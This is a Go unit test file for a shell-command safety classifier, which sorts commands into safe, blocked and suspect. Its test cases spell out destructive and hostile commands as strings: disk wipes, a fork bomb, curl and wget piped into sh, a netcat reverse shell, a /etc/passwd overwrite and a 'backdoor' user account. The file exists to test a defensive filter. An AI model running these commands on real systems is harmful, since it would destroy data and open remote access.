package hunt

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestClassifyCommand(t *testing.T) {
	tests := []struct {
		name    string
		command string
		want    SafetyVerdict
	}{
		{"plain read", "cat /etc/hosts", VerdictSafe},
		{"process list", "ps auxww", VerdictSafe},
		{"socket list", "ss -tlnpu", VerdictSafe},
		{"find with rm-like name", "ls /tmp/format-report", VerdictSafe},

		{"rm root", "rm -rf /", VerdictBlocked},
		{"rm root flags swapped", "rm -fr /", VerdictBlocked},
		{"mkfs", "mkfs.ext4 /dev/sdb1", VerdictBlocked},
		{"dd to disk", "dd if=/dev/zero of=/dev/sda bs=1M", VerdictBlocked},
		{"redirect to disk", "cat payload > /dev/sda", VerdictBlocked},
		{"shutdown", "shutdown -h now", VerdictBlocked},
		{"reboot uppercase", "REBOOT", VerdictBlocked},
		{"fork bomb", ":(){ :|: & };:", VerdictBlocked},
		{"chmod root", "chmod -R 777 /", VerdictBlocked},
		{"userdel", "userdel analyst", VerdictBlocked},
		{"iptables flush", "iptables -F", VerdictBlocked},
		{"history wipe", "history -c", VerdictBlocked},

		{"curl pipe sh", "curl -s http://x.test/a.sh | sh", VerdictSuspect},
		{"wget pipe bash", "wget -qO- http://x.test/a | bash", VerdictSuspect},
		{"nc exec", "nc 10.0.0.5 4444 -e /bin/sh", VerdictSuspect},
		{"base64 pipe", "echo aWQ= | base64 -d | sh", VerdictSuspect},
		{"crontab wipe", "crontab -r", VerdictSuspect},
		{"passwd overwrite", "echo x > /etc/passwd", VerdictSuspect},
		{"useradd", "useradd -m backdoor", VerdictSuspect},

		{"curl alone is fine", "curl -s http://x.test/health", VerdictSafe},
		{"iptables list is fine", "iptables -L -n", VerdictSafe},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, ClassifyCommand(tt.command))
		})
	}
}

func TestBlockedWinsOverSuspect(t *testing.T) {
	// A command matching both tiers classifies as BLOCKED.
	assert.Equal(t, VerdictBlocked, ClassifyCommand("curl http://x.test/a.sh | sh && reboot"))
}
